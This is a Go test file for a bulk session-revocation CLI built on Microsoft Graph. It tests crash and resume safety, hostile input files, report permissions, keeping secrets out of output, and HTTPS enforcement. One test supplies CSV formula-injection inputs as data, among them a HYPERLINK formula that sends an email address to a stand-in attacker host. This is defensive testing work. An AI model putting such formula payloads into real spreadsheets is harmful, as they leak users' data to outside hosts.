package main

// Reliability and security of the whole program: a real child process killed or interrupted
// mid-run and resumed, hostile input files, and what may never show up in output.

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/urfave/cli/v2"

	"github.com/bulkrevoke/bulkrevoke/batch"
	"github.com/bulkrevoke/bulkrevoke/graphsim"
	"github.com/bulkrevoke/bulkrevoke/report"
)

// TestRelReportTorn feeds readTornReport the reports a run killed mid-write leaves, and reports it
// must refuse: every complete row comes back, with its content, and nothing else.
func TestRelReportTorn(t *testing.T) {
	results := []batch.Result{
		{Line: 2, Input: "adele@contoso.com", Status: batch.StatusRevoked, HTTP: 204, Attempts: 1},
		// Quotes and commas make the journal quote this row's cells, as Graph's messages do.
		{Line: 3, Input: "ghost@contoso.com", Status: batch.StatusNotFound, HTTP: 404, Code: "Request_ResourceNotFound",
			Message: `Resource 'ghost@contoso.com' does not exist, or one of its "queried" properties`, Attempts: 1},
		{Line: 4, Input: "megan@contoso.com", Status: batch.StatusNotAttempted},
		// The row a killed run was writing, with a quoted cell to be cut inside.
		{Line: 5, Input: "lee@contoso.com", Status: batch.StatusFailed, HTTP: 503, Code: "ServiceUnavailable",
			Message: `Graph said "try later", twice`, Attempts: 8},
	}
	var b bytes.Buffer
	j := report.NewJournal(&b)
	if err := j.Write(results[:3]...); err != nil {
		t.Fatal(err)
	}
	if err := j.Flush(); err != nil {
		t.Fatal(err)
	}
	complete := b.String()
	if err := j.Write(results[3]); err != nil {
		t.Fatal(err)
	}
	if err := j.Flush(); err != nil {
		t.Fatal(err)
	}
	next := strings.TrimPrefix(b.String(), complete)
	quote := strings.IndexByte(next, '"')
	if !strings.HasSuffix(next, "\n") || strings.Count(next, "\n") != 1 || quote < 0 {
		t.Fatalf("the journal's next row %q is not one line with a quoted cell", next)
	}

	tests := []struct {
		name, report string
		want         int // complete rows: the first want of 2, 3, 4, 5
	}{
		{"intact", complete, 3},
		{"intact, one more row", complete + next, 4},
		{"no trailing newline", complete + strings.TrimSuffix(next, "\n"), 3},
		{"cut mid-field", complete + next[:len(next)/3], 3},
		{"unclosed quote", complete + next[:quote+4], 3},
		{"short row", complete + "5,lee@contoso.com,,", 3},
		{"short row ending its line", complete + "5,lee@contoso.com\n", 3},
		{"header only", strings.Join(report.Header, ",") + "\n", 0},
		{"torn header", "line,input,us", 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rows, n, _ := scanReport(t, "report.csv", []byte(tc.report))
			if n != tc.want || len(rows) != tc.want {
				t.Fatalf("%d records, %d rows; want %d of each", n, len(rows), tc.want)
			}
			for _, want := range results[:tc.want] {
				got := rows[want.Line]
				if got.Input != want.Input || got.Status != want.Status || got.Message != want.Message || got.Attempts != want.Attempts {
					t.Errorf("line %d = %+v, want %+v", want.Line, got, want)
				}
			}
		})
	}

	// What a crash cannot leave must fail the test that reads it.
	corrupt := []struct{ name, report, failure string }{
		{"unparseable line before the last", complete + next[:quote+4] + "\n" + next, "not the last line"},
		{"short row before the last", complete + "5,lee@contoso.com\n" + next, "not the last line"},
		{"a line reported twice", complete + strings.Replace(next, "5,", "2,", 1), "reported twice"},
	}
	for _, tc := range corrupt {
		t.Run(tc.name, func(t *testing.T) {
			failures := (&failRecorder{TB: t}).run(func(tb testing.TB) { scanReport(tb, "report.csv", []byte(tc.report)) })
			if !strings.Contains(strings.Join(failures, "\n"), tc.failure) {
				t.Errorf("failures %q, want one saying %q", failures, tc.failure)
			}
		})
	}
}

// TestRelKillAndResume kills the program (SIGKILL) at several points of a run, driven by the
// Nth $batch request reaching Graph, before or after Graph did the work, and resumes from the
// report the dead run left. Nothing may be lost or reported twice, and no user whose row said
// revoked may be sent again.
func TestRelKillAndResume(t *testing.T) {
	for _, nth := range []int64{1, 4, 8} {
		for _, after := range []bool{false, true} {
			name := fmt.Sprintf("envelope %d before Graph answers", nth)
			if after {
				name = fmt.Sprintf("envelope %d after Graph did the work", nth)
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				killAndResume(t, nth, after)
			})
		}
	}
}

// killAndResume is one case of TestRelKillAndResume: the kill at the nth $batch, before or after
// graphsim carried it out.
func killAndResume(t *testing.T, nth int64, after bool) {
	users, input := memberList(t, 200)
	dir := filepath.Dir(input)
	child := new(childProc)
	var killed atomic.Bool
	kill := func() {
		killed.Store(true)
		child.signal(os.Kill)
	}
	rs := serveSim(t, tokenSim(graphsim.Config{Seed: nth, Latency: graphsim.Uniform{Min: 10 * time.Millisecond, Max: 30 * time.Millisecond}}, users), simOpts{hook: func(rs *simServer, n int64, w http.ResponseWriter, r *http.Request) bool {
		if n != nth {
			return false
		}
		if !after {
			kill()
			return true
		}
		rs.serveThen(w, r, func() bool { kill(); return true })
		return true
	}})
	first := filepath.Join(dir, "first.csv")
	child.start(t, dir, nil, cliArgs("revoke", rs.url, input, first)...)
	if code := child.wait(t); code != -1 || !killed.Load() {
		t.Fatalf("first run exited %d (killed: %v), want killed by the test; stderr:\n%s", code, killed.Load(), child.stderr.String())
	}
	rs.drain()
	noSecrets(t, "the killed run's output", child.stdout.String(), child.stderr.String())

	firstRows, _ := readTornReport(t, first)
	before := map[string]int{}
	for _, r := range firstRows {
		if r.Status == batch.StatusRevoked {
			before[r.UPN] = len(rs.sim.Revocations(r.UPN))
			if before[r.UPN] == 0 {
				t.Errorf("line %d says revoked, graphsim never revoked %s", r.Line, r.UPN)
			}
		}
	}

	second := filepath.Join(dir, "second.csv")
	resume := startChild(t, dir, nil, cliArgs("revoke", rs.url, input, second, "--resume", first)...)
	if code := resume.wait(t); code != 0 {
		t.Fatalf("resumed run exited %d, want 0; stderr:\n%s", code, resume.stderr.String())
	}
	rs.drain()
	rows, n := readTornReport(t, second)
	if n != len(users) || len(rows) != len(users) {
		t.Fatalf("resumed report has %d rows (%d distinct lines) for %d input rows", n, len(rows), len(users))
	}
	for _, r := range rows {
		if r.Status != batch.StatusRevoked {
			t.Errorf("line %d: %s %s, want revoked", r.Line, r.Status, r.Message)
		}
	}
	for _, u := range users {
		got := len(rs.sim.Revocations(u.UPN))
		if got == 0 {
			t.Errorf("%s never revoked", u.UPN)
		}
		if b, ok := before[u.UPN]; ok && got != b {
			t.Errorf("%s was revoked in the killed run's report and sent again on resume (%d -> %d revocations)", u.UPN, b, got)
		}
	}
	if gs := rs.sim.Stats(); gs.EarlyRetries != 0 {
		t.Errorf("graphsim counted %d early retries", gs.EarlyRetries)
	}
	t.Logf("killed with %d rows revoked in the report", len(before))
	data, _ := os.ReadFile(second)
	noSecrets(t, "the resumed run's output and reports", resume.stdout.String(), resume.stderr.String(), string(data))
}

// TestRelInterrupt sends SIGINT to the program while a $batch request is in flight: that
// request finishes and is reported, every other row is not_attempted, the exit code is 130,
// and the summary's resume command, run as printed, finishes the job without sending anyone
// twice. Graph holds the in-flight envelope until the child says the signal cancelled its run,
// so however long the signal takes on a busy machine, the answer comes after it.
func TestRelInterrupt(t *testing.T) {
	users, input := memberList(t, 200)
	dir := filepath.Dir(input)
	child := new(childProc)
	in := interruptAt(t, 2)
	rs := serveSim(t, tokenSim(graphsim.Config{Seed: 7}, users), simOpts{hook: in.hook(child)})
	first := filepath.Join(dir, "first.csv")
	child.start(t, dir, []string{in.env}, cliArgs("revoke", rs.url, input, first, "--concurrency", "1", "-v", "--log-format", "json")...)
	code := child.wait(t)
	if in.unacked.Load() {
		t.Fatalf("the child never acknowledged the interrupt (exit %d); stderr:\n%s", code, child.stderr.String())
	}
	if code != exitInterrupted {
		t.Fatalf("exit code %d, want %d; stderr:\n%s", code, exitInterrupted, child.stderr.String())
	}
	rs.drain()
	rows, n := readTornReport(t, first)
	if n != len(users) || len(rows) != len(users) {
		t.Fatalf("report has %d rows (%d distinct) for %d input rows", n, len(rows), len(users))
	}
	counts := countStatuses(rows)
	gs := rs.sim.Stats()
	// The signal came while the second envelope was in flight: it must be the last one sent,
	// and its users, revoked by graphsim, must be reported revoked, not guessed not_attempted.
	if gs.Envelopes != 2 || counts[batch.StatusRevoked] == 0 || counts[batch.StatusRevoked] != gs.Revocations ||
		counts[batch.StatusNotAttempted] != len(users)-counts[batch.StatusRevoked] {
		t.Fatalf("statuses %v; graphsim got %d envelopes and revoked %d: want 2 envelopes, their users revoked, all others not_attempted",
			counts, gs.Envelopes, gs.Revocations)
	}
	stderr := child.stderr.String()
	report0, _ := os.ReadFile(first)
	noSecrets(t, "the interrupted run's output", child.stdout.String(), stderr, string(report0))

	// Nothing was killed mid-request, so every user was sent exactly once over both runs.
	out := resumeAsPrinted(t, rs.sim, users, dir, stderr, first)
	noSecrets(t, "the resumed run's output", out)
}

// utf16LE encodes s as UTF-16LE with a BOM, as Excel's "Unicode text" does.
func utf16LE(s string) string {
	var b bytes.Buffer
	b.Write([]byte{0xff, 0xfe})
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

// TestRelBadInput: hostile or broken input files end in a clear error naming the file (and
// the line, when there is one) before anything is sent, or in per-row statuses; never a panic.
func TestRelBadInput(t *testing.T) {
	users := []graphsim.User{{ID: "11111111-1111-4111-8111-111111111111", UPN: "adele@contoso.com", UserType: "Member", AccountEnabled: true}}
	garbage := make([]byte, 4096)
	for i := range garbage {
		garbage[i] = byte(i * 7)
	}
	tests := []struct {
		name, content string
		dir           bool   // the input path is a directory
		column        string // --column
		code          int
		stderr        string         // must appear in stderr
		statuses      map[int]string // per-row outcome, for runs that go ahead
	}{
		{name: "empty file", content: "", code: 1, stderr: "no users in the file"},
		{name: "header only", content: "userPrincipalName\r\n", code: 1, stderr: "no users in the file"},
		{name: "UTF-16 with BOM", content: utf16LE("userPrincipalName\tdisplayName\r\nadele@contoso.com\tAdele\r\nghost@contoso.com\tG\r\n"),
			code: 2, statuses: map[int]string{2: "revoked", 3: "not_found"}},
		{name: "binary garbage", content: string(garbage), code: 1, stderr: "binary"},
		{name: "1 MB line", content: "userPrincipalName\n" + strings.Repeat("a", 1<<20) + "@contoso.com\nadele@contoso.com\n",
			code: 2, statuses: map[int]string{2: "invalid", 3: "revoked"}},
		{name: "unbalanced quotes", content: "userPrincipalName,x\n\"adele@contoso.com,1\nb@contoso.com,2\n", code: 1, stderr: ":2: a quoted field"},
		{name: "column that does not exist", content: "userPrincipalName\nadele@contoso.com\n", column: "Object Id", code: 1, stderr: `no column "Object Id"`},
		{name: "directory", dir: true, code: 1, stderr: "is a directory"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs := serveSim(t, tokenSim(graphsim.Config{Seed: 1}, users), simOpts{})
			input := writeFile(t, "in.csv", tc.content)
			if tc.dir {
				input = t.TempDir()
			}
			reportPath := filepath.Join(t.TempDir(), "report.csv")
			args := cliArgs("revoke", rs.url, input, reportPath)
			if tc.column != "" {
				args = append(args, "--column", tc.column)
			}
			res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", args...)
			if res.code != tc.code || !strings.Contains(res.stderr, tc.stderr) || strings.Contains(res.stderr, "panic") {
				t.Fatalf("exit %d, stderr:\n%s\nwant exit %d and %q", res.code, res.stderr, tc.code, tc.stderr)
			}
			if tc.statuses == nil {
				if !strings.Contains(res.stderr, filepath.Base(input)) {
					t.Errorf("the error does not name the input: %s", res.stderr)
				}
				if _, err := os.Stat(reportPath); err == nil {
					t.Error("a run that never started left a report")
				}
				if gs := rs.sim.Stats(); gs.Requests != 0 {
					t.Errorf("graphsim got %d requests for an unusable input", gs.Requests)
				}
				return
			}
			rows, n := readTornReport(t, reportPath)
			if n != len(tc.statuses) {
				t.Fatalf("%d report rows, want %d", n, len(tc.statuses))
			}
			for line, want := range tc.statuses {
				if got := string(rows[line].Status); got != want {
					t.Errorf("line %d: %s (%s), want %s", line, got, rows[line].Message, want)
				}
			}
		})
	}
}

// TestRelReportRefused: a report that cannot be created stops the run before Graph hears of it,
// and an existing report is never overwritten without --force.
func TestRelReportRefused(t *testing.T) {
	users, input := memberList(t, 3)
	dir := t.TempDir()
	notDir := writeFile(t, "plain-file", "x")
	existing := filepath.Join(dir, "existing.csv")
	if err := os.WriteFile(existing, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct{ name, path, stderr string }{
		{"missing directory", filepath.Join(dir, "no", "such", "dir", "r.csv"), "does not exist"},
		{"parent is a file", filepath.Join(notDir, "r.csv"), "create report"},
		{"a directory", dir, "is a directory"},
		{"a device", os.DevNull, "not a regular file"},
		{"an existing report", existing, "refusing to overwrite"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs := serveSim(t, tokenSim(graphsim.Config{Seed: 1}, users), simOpts{})
			res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", cliArgs("revoke", rs.url, input, tc.path)...)
			if res.code != exitFailure || !strings.Contains(res.stderr, tc.stderr) {
				t.Fatalf("exit %d, stderr:\n%s\nwant exit 1 and %q", res.code, res.stderr, tc.stderr)
			}
			if gs := rs.sim.Stats(); gs.Requests != 0 {
				t.Errorf("graphsim got %d requests though the report could not be written", gs.Requests)
			}
		})
	}
	if b, _ := os.ReadFile(existing); string(b) != "precious\n" {
		t.Fatalf("the existing report was changed: %q", b)
	}

	// --force replaces it, and the replacement is private whatever the old file's mode was.
	rs := serveSim(t, tokenSim(graphsim.Config{Seed: 1}, users), simOpts{})
	res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", cliArgs("revoke", rs.url, input, existing, "--force")...)
	if res.code != exitOK {
		t.Fatalf("--force: exit %d\n%s", res.code, res.stderr)
	}
	fresh := filepath.Join(dir, "fresh.csv")
	if res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", cliArgs("revoke", rs.url, input, fresh)...); res.code != exitOK {
		t.Fatalf("exit %d\n%s", res.code, res.stderr)
	}
	for _, p := range []string{existing, fresh} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if perm := fi.Mode().Perm(); perm != 0o600 {
			t.Errorf("%s has mode %v, want 0600", filepath.Base(p), perm)
		}
	}
	if _, n := readTornReport(t, existing); n != len(users) {
		t.Errorf("forced report has %d rows, want %d", n, len(users))
	}
}

// TestRelFormulaCells: cells a spreadsheet would evaluate are neutralised in the report, and
// reading the report back (for --resume) gives the original values.
func TestRelFormulaCells(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?u=adele@contoso.com","adele@contoso.com")`,
		"+adele@contoso.com", "-adele@contoso.com", "@adele@contoso.com", "=1+2@contoso.com",
	}
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.Write([]string{"userPrincipalName"})
	for _, h := range hostile {
		w.Write([]string{h})
	}
	w.Flush()
	input := writeFile(t, "in.csv", in.String())
	reportPath := filepath.Join(t.TempDir(), "r.csv")
	res := runCLI(t, nil, "", "validate", "--offline", "--input", input, "--report", reportPath)
	if res.code != exitIncomplete {
		t.Fatalf("exit %d\n%s", res.code, res.stderr)
	}
	data, err := os.ReadFile(reportPath)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostile)+1 {
		t.Fatalf("%d report rows, want %d", len(recs)-1, len(hostile))
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("line %s column %s = %q: a spreadsheet would evaluate it", rec[0], report.Header[i], cell)
			}
		}
	}
	rows := readReport(t, reportPath)
	for i, h := range hostile {
		if got := rows[i+2].Input; got != h {
			t.Errorf("line %d reads back as %q, want %q", i+2, got, h)
		}
	}
}

// TestRelSecrets: no flag takes a secret, and neither the token nor the client secret appear
// in logs, reports or error messages, on success or failure.
func TestRelSecrets(t *testing.T) {
	for _, cmd := range newApp(&sys{}).Commands {
		for _, f := range cmd.Flags {
			for _, name := range f.Names() {
				for _, bad := range []string{"secret", "password", "token", "insecure", "skip-verify", "tls"} {
					// A switch carries no value: --reset-password names an action, not a secret.
					_, isSwitch := f.(*cli.BoolFlag)
					if strings.Contains(strings.ToLower(name), bad) && name != "token" && !(bad == "password" && isSwitch) {
						t.Errorf("%s --%s: secrets and TLS switches must not be flags", cmd.Name, name)
					}
				}
			}
		}
	}

	users, input := memberList(t, 30)
	env := map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken, "AZURE_CLIENT_SECRET": testSecret,
		"AZURE_TENANT_ID": "00000000-0000-4000-8000-0000000000aa", "AZURE_CLIENT_ID": "00000000-0000-4000-8000-0000000000bb"}
	// Graph refusing the token is the path most likely to echo it.
	refusing := serveSim(t, tokenSim(graphsim.Config{Seed: 1}, users), simOpts{})
	refusing.sim.SetToken("not-the-token-we-send")
	// Retried steps make the engine log warnings; a short Retry-After keeps the test quick.
	ok := serveSim(t, tokenSim(graphsim.Config{Seed: 2, FractionalRetryAfter: true, Faults: graphsim.Faults{
		StepRate: 0.3, StepStatuses: []int{503}, RetryAfter: 20 * time.Millisecond}}, users), simOpts{})
	dir := t.TempDir()
	runs := []struct {
		name string
		args []string
		env  map[string]string
	}{
		{"success, verbose json logs", cliArgs("revoke", ok.url, input, filepath.Join(dir, "a.csv"), "-v", "--log-format", "json", "--verify", "--max-attempts", "20"), env},
		{"token refused, verbose", cliArgs("revoke", refusing.url, input, filepath.Join(dir, "b.csv"), "-v", "--batch-size", "10"), env},
		{"dry run", append(cliArgs("revoke", ok.url, input, filepath.Join(dir, "c.csv"), "-v"), "--dry-run"), env},
		{"secret auth, missing tenant", []string{"revoke", "--auth", "secret", "--tenant-id", "", "--input", input, "--yes", "--report", filepath.Join(dir, "d.csv")},
			map[string]string{"AZURE_CLIENT_SECRET": testSecret, "AZURE_CLIENT_ID": "x"}},
		{"plain http to a remote host", []string{"revoke", "--auth", "token", "--graph-url", "http://graph.example.com/v1.0", "--input", input, "--yes"}, env},
	}
	for _, r := range runs {
		res := runCLI(t, r.env, "", r.args...)
		texts := []string{res.stdout, res.stderr}
		for _, a := range r.args {
			if strings.HasSuffix(a, ".csv") && a != input {
				if b, err := os.ReadFile(a); err == nil {
					texts = append(texts, string(b))
				}
			}
		}
		if res.code == exitOK && r.name != "success, verbose json logs" && r.name != "dry run" {
			t.Errorf("%s: exit 0, want a failure", r.name)
		}
		noSecrets(t, r.name, texts...)
	}
}

// TestRelGraphURL: a bearer token never travels in clear text, and TLS is always verified.
func TestRelGraphURL(t *testing.T) {
	users, input := memberList(t, 2)
	env := map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}
	for _, u := range []string{"http://graph.example.com/v1.0", "http://10.0.0.1/v1.0", "http://localhost.example.com/v1.0", "ftp://127.0.0.1/v1.0"} {
		res := runCLI(t, env, "", cliArgs("revoke", u, input, filepath.Join(t.TempDir(), "r.csv"))...)
		if res.code != exitFailure || !strings.Contains(res.stderr, "only https is allowed") {
			t.Errorf("--graph-url %s: exit %d, stderr %s; want refused", u, res.code, res.stderr)
		}
	}

	// A server whose certificate this machine does not trust: every request fails, none is
	// made without verification.
	ss := serveSim(t, tokenSim(graphsim.Config{Seed: 1}, users), simOpts{tls: true})
	reportPath := filepath.Join(t.TempDir(), "r.csv")
	res := runCLI(t, env, "", cliArgs("revoke", ss.url, input, reportPath, "--max-attempts", "1")...)
	if res.code != exitIncomplete {
		t.Fatalf("exit %d, want 2\n%s", res.code, res.stderr)
	}
	rows, _ := readTornReport(t, reportPath)
	for _, r := range rows {
		if r.Status != batch.StatusFailed || !strings.Contains(r.Message, "certificate") {
			t.Errorf("line %d: %s %q, want failed for the untrusted certificate", r.Line, r.Status, r.Message)
		}
	}
	if gs := ss.sim.Stats(); gs.Requests != 0 {
		t.Errorf("graphsim served %d requests over unverified TLS", gs.Requests)
	}
}
